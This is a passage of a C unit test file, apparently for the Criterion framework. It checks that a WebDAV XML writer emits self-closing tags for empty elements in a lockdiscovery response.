    tp_dav_out_free(o);
}

Test(davxml, writer_output_of_every_empty_element_is_self_closing)
{
    tp_dav_out *o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "lockdiscovery");
    tp_dav_out_open(o, TP_DAV_NS, "activelock");
    tp_dav_out_open(o, TP_DAV_NS, "lockscope");
    tp_dav_out_elem(o, TP_DAV_NS, "exclusive", NULL);
    tp_dav_out_close(o);
    tp_dav_out_elem(o, TP_DAV_NS, "depth", "infinity");
    tp_dav_out_close(o);
    tp_dav_out_close(o);
    const char *xml;
    size_t len;
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), 0);
    cr_assert_str_eq(xml,
                     "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
                     "<D:lockdiscovery xmlns:D=\"DAV:\"><D:activelock>"
                     "<D:lockscope><D:exclusive/></D:lockscope>"
                     "<D:depth>infinity</D:depth></D:activelock>"
                     "</D:lockdiscovery>\n");
    tp_dav_out_free(o);
}
